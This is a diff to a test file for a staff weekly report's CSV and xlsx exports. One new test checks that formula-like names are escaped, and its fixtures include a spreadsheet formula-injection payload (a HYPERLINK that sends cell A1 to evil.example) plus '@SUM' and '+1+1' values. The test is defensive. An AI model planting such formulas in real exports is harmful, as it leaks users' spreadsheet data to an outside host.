@@ -5,7 +5,8 @@ import { zoneOf } from '@allot/engine';
 import { weekByKey, weekOf } from '../../people';
 import { defaultWeek, findWeek, listWeeks, weeklyReport, WEEKLY_FIELDS } from '../weekly';
 import type { WeekEntry, WeeklyRow } from '../weekly';
-import { weeklyCsv } from '../weekly-csv';
+import readXlsxFile from 'read-excel-file/node';
+import { weeklyCsv, weeklyXlsx } from '../weekly-csv';
 import { historyEvents, openSeededApp, simulated } from '../../shared/test/seeded-app';
 import type { SeededApp } from '../../shared/test/seeded-app';
 
@@ -138,10 +139,40 @@ describe('the weekly report (W1)', () => {
     for (const [i, r] of report.rows.entries()) {
       expect(rows[i]?.[0]).toBe(r.staffId);
       expect(rows[i]?.[1]).toBe(r.name ?? '');
-      expect(rows[i]?.[finesCol]).toBe(String(r.finesFen / 100));
+      expect(rows[i]?.[finesCol]).toBe((r.finesFen / 100).toFixed(2));
     }
     expect(weeklyCsv(report, 'en').split('\r\n')[0]).toBe('\uFEFFStaff ID,Name,Level,Clients registered,Registrations rejected,Allocations,Of which direct,Follow-ups in time,Late follow-ups,Fines,Fines (元),Pauses,Bans,Hotline bans,Review notices,Reclaim notices');
     // No client appears in the report: it is about staff only.
     expect(csv).not.toMatch(/c\d{6}/);
+  });
+
+  it('downloads as a formatted .xlsx whose cells read back as the page’s numbers', async () => {
+    const week = defaultWeek(weeks) as WeekEntry;
+    const report = await weeklyReport(app, week);
+    const [sheet] = await readXlsxFile(Buffer.from(await weeklyXlsx(report, 'zh')));
+    const [head, ...rows] = sheet?.data ?? [];
+    expect(head?.slice(0, 4)).toEqual(['工号', '姓名', '级别', '新登记客户']);
+    expect(rows).toHaveLength(report.rows.length + 1);
+    const finesCol = (head ?? []).indexOf('罚款（元）');
+    for (const [i, r] of [...report.rows, { ...report.totals, staffId: '合计' }].entries()) {
+      expect(rows[i]?.[0]).toBe(r.staffId);
+      // Money is a number of 元 (formatted #,##0.00"元"), counts are numbers.
+      expect(rows[i]?.[finesCol]).toBe(r.finesFen / 100);
+      for (const [j, f] of WEEKLY_FIELDS.entries()) if (f !== 'finesFen') expect(rows[i]?.[3 + j]).toBe(r[f]);
+    }
+  });
+
+  it('neutralises a staff name that is a formula, in the CSV and the workbook', async () => {
+    const week = defaultWeek(weeks) as WeekEntry;
+    const report = await weeklyReport(app, week);
+    const first = report.rows[0] as WeeklyRow;
+    const evil = { ...report, rows: [{ ...first, name: '=HYPERLINK("http://evil.example/?"&A1,"点我")' }, { ...first, staffId: '@SUM(1)', name: '+1+1' }] };
+    const csv = weeklyCsv(evil, 'zh');
+    const parsed = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data;
+    expect(parsed[1]?.[1]).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"点我")');
+    expect(parsed[2]?.[0]).toBe("'@SUM(1)");
+    expect(parsed[2]?.[1]).toBe("'+1+1");
+    const [sheet] = await readXlsxFile(Buffer.from(await weeklyXlsx(evil, 'zh')));
+    expect(sheet?.data[1]?.[1]).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"点我")');
   });
 });
